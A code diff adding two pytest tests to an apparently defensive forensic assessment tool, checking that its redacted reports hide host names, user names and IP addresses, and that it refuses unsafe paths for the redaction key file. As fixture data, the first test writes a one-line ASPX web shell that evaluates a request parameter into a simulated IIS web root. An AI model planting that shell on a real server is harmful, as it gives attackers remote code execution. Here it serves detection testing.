@@ -595,6 +595,43 @@ def test_signing_and_checking(run: Run, server: Path, tmp_path: Path) -> None:
     assert not (tmp_path / "o").exists()
 
 
+def test_a_redacted_dossier(run: Run, server: Path, tmp_path: Path) -> None:
+    names, out = tmp_path / "names.json", tmp_path / "out"
+    page = "inetpub/wwwroot/aspnet_client/x.aspx"
+    write(server / page, '<%@ Page Language="Jscript"%><%ev' + 'al(Request.Item["k"],"unsafe");%>')
+    said = run("assess", server, "-o", out, "--redact", names, "--note", "of MAIL01")
+    texts = {path.name: path.read_bytes().lower() for path in out.iterdir()}
+    for name in (b"mail01", b"anna", b"10.0.0.5", str(tmp_path).lower().encode()):
+        assert [file for file, text in texts.items() if name in text] == [], name
+    assert "MAIL01" not in said.out.replace(str(out), "")
+    assert json.loads(texts["manifest.json"])["case"]["note"].startswith("of host-")
+    if os.name == "posix":
+        assert names.stat().st_mode & 0o777 == 0o600
+    # The same key gives the same bytes, another one other pseudonyms.
+    words = ["--redact", tmp_path / "again.json", "--redact-key", names]
+    run("assess", server, "-o", tmp_path / "again", *words)
+    run("assess", server, "-o", tmp_path / "other", "--redact", tmp_path / "other.json")
+    answers = [(tmp_path / o / "assessment.json").read_bytes() for o in ("out", "again", "other")]
+    assert answers[0] == answers[1] != answers[2]
+    one_sentence(run("compare", out, tmp_path / "other"), "redacted with one key")
+    assert run("verify", out).code == 0
+
+
+def test_where_the_names_may_not_be_written(run: Run, server: Path, tmp_path: Path) -> None:
+    out, names = tmp_path / "out", write(tmp_path / "names.json", "{}")
+    for words, said in (
+        (["--redact", out / "names.json"], "elsewhere"),
+        (["--redact", server / "names.json"], "never changed"),
+        (["--redact", names], "exists"),
+        (["--redact", tmp_path / "no" / "names.json"], "can't be written to"),
+        (["--redact-key", names], "goes with --redact"),
+        (["--redact", tmp_path / "new.json", "--redact-key", names], "--redact wrote"),
+    ):
+        one_sentence(run("assess", server, "-o", out, *words), said)
+    assert not out.exists()
+    assert not (tmp_path / "new.json").exists()
+
+
 def test_refused_rules_are_said_when_assessing(run: Run, server: Path, tmp_path: Path) -> None:
     write(tmp_path / "rules/broken.yml", "title: [")
     said = run("assess", server, "-o", tmp_path / "out", "-q", "--sigma", tmp_path / "rules")
